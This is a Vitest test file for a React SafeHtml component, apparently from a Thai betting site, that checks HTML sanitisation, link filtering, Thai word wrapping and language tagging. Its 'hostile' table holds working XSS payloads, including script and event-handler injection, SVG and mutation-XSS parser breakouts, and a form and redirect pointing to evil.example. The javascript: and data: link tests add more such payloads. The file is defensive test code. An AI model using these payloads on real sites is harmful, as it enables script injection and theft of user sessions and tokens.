import { act, render } from '@testing-library/react'
import { Suspense } from 'react'
import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import { SafeHtml } from '#src/components/safe-html.tsx'
import { startLanguage } from '#src/lib/i18n.ts'

const ran = vi.fn()
beforeAll(async () => {
  Object.assign(window, { ran })
  await startLanguage('th')
})
afterAll(() => Reflect.deleteProperty(window, 'ran'))

const allowed = new Set(['B', 'STRONG', 'I', 'EM', 'P', 'BR', 'UL', 'OL', 'LI', 'H3', 'H4', 'SPAN', 'A'])
const allowedAttributes = new Set(['href', 'target', 'rel'])

async function show(html: string) {
  const page = (
    <Suspense fallback="…">
      <SafeHtml html={html} />
    </Suspense>
  )
  const container = document.body.appendChild(document.createElement('div'))
  await act(async () => {
    render(page, { container })
    await import('dompurify')
  })
  const box = container.querySelector<HTMLElement>('.rich')
  if (!box) throw new Error('not shown')
  return box
}

const hostile = {
  script: 'ฝาก<script>ran()</script>',
  handler: 'ฝาก<img src=x onerror="ran()"><b onclick="ran()" autofocus tabindex=0 onfocus=ran()>เงิน</b>',
  svg: 'ฝาก<svg onload=ran()><animate onbegin=ran() attributeName=x dur=1s><script>ran()</script></svg>',
  style: 'ฝาก<style>*{background:url(https://evil.example/?x)}</style><p style="position:fixed;inset:0">เงิน</p>',
  frame: 'ฝาก<iframe srcdoc="<script>parent.ran()</script>"></iframe><object data="javascript:ran()"></object>',
  form: 'ฝาก<form action="https://evil.example"><input name=token><button>ส่ง</button></form>',
  base: 'ฝาก<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  clobber: 'ฝาก<p id="root" name="cookie" class="modal" data-x=1 aria-hidden=true>เงิน</p>',
  mathStyle: 'ฝาก<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
  svgStyle: 'ฝาก<svg></p><style><a id="</style><img src=1 onerror=ran()>">',
  noscript: 'ฝาก<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>',
  template: 'ฝาก<template><img src=x onerror=ran()></template><xmp><p title="</xmp><img src=x onerror=ran()>"></xmp>',
  comment: 'ฝาก<!--><img src=x onerror=ran()>--><![CDATA[><img src=x onerror=ran()>]]>',
  broken: 'ฝาก<<b>img src=x onerror=ran()//<</b>IMG SRC=x ONERROR=ran()>',
}

test.each(Object.entries(hostile))(
  'SafeHtml runs no script and keeps only allowed tags and attributes: %s',
  async (_, html) => {
    const box = await show(html)
    for (const element of box.querySelectorAll('*')) {
      expect(allowed).toContain(element.tagName)
      for (const { name } of element.attributes) expect(allowedAttributes).toContain(name)
    }
    expect(box.textContent).toMatch(/^ฝาก/)
    // After two frames, the error handler of a broken image would already have run.
    await new Promise((frame) => requestAnimationFrame(() => requestAnimationFrame(frame)))
    expect(ran).not.toHaveBeenCalled()
  },
)

test.each([
  ['javascript:ran()', null],
  ['JaVa\tScRiPt:ran()', null],
  ['&#106;avascript&colon;ran()', null],
  ['data:text/html,<script>ran()</script>', null],
  ['//evil.example', null],
  ['tel:0812345678', null],
  ['https://example.com/a?b=1', 'https://example.com/a?b=1'],
  ['/user/home', '/user/home'],
])('SafeHtml renders a link to %s with the href %j', async (href, kept) => {
  const link = (await show(`<a href="${href}" target="_top" onclick="ran()">อ่านต่อ</a>`)).querySelector('a')
  expect(link?.getAttribute('href')).toBe(kept)
  expect(link?.getAttribute('target')).toBe(kept && '_blank')
  expect(link?.getAttribute('rel')).toBe(kept && 'noopener noreferrer')
})

test('SafeHtml keeps headings, lists, bold text and line breaks', async () => {
  const box = await show('<h3>เงื่อนไข</h3><ul><li>ฝาก <b>100</b> บาท<br>ขึ้นไป</li></ul>')
  expect(box.innerHTML).toBe('<h3>เงื่อนไข</h3><ul><li>ฝาก <b>100</b> บาท<br>ขึ้นไป</li></ul>')
})

/** A text with words that must not be broken, and one link. */
const WORDS = '<p>ทำยอดเทิร์นแล้ว<a href="/user/bonus">รับโบนัส</a> หรือติดต่อแอดมิน</p>'

test('SafeHtml does not break lines within known words', async () => {
  const box = await show(WORDS)
  expect(Array.from(box.querySelectorAll('.w'), ({ textContent }) => textContent)).toEqual([
    'ทำยอดเทิร์น',
    'แล้ว',
    'โบนัส',
    'ติดต่อแอดมิน',
  ])
})

test('SafeHtml does not add links to the text', async () => {
  const box = await show(WORDS)
  expect(Array.from(box.querySelectorAll('a'), ({ textContent }) => textContent)).toEqual(['รับโบนัส'])
})

test.each(['รับโบนัส 50% แล้ว', 'ຝາກ <b>100</b> ບາດ'])(
  'SafeHtml keeps %s on one line, even without a paragraph around it',
  async (html) => {
    const box = await show(html)
    const tops = Array.from(box.querySelectorAll('span, b'), (part) => part.getBoundingClientRect().bottom)
    expect(tops.length).toBeGreaterThan(1)
    expect(Math.max(...tops) - Math.min(...tops)).toBeLessThan(4)
  },
)

test.each([
  ['<p>ข้อ 1</p>', 'th'],
  ['<p>ຂໍ້ 1</p>', 'lo'],
  ['<p>Rule 1</p>', ''],
])('SafeHtml marks the text %s with the language %j (D-02)', async (html, lang) => {
  expect((await show(html)).lang).toBe(lang)
})
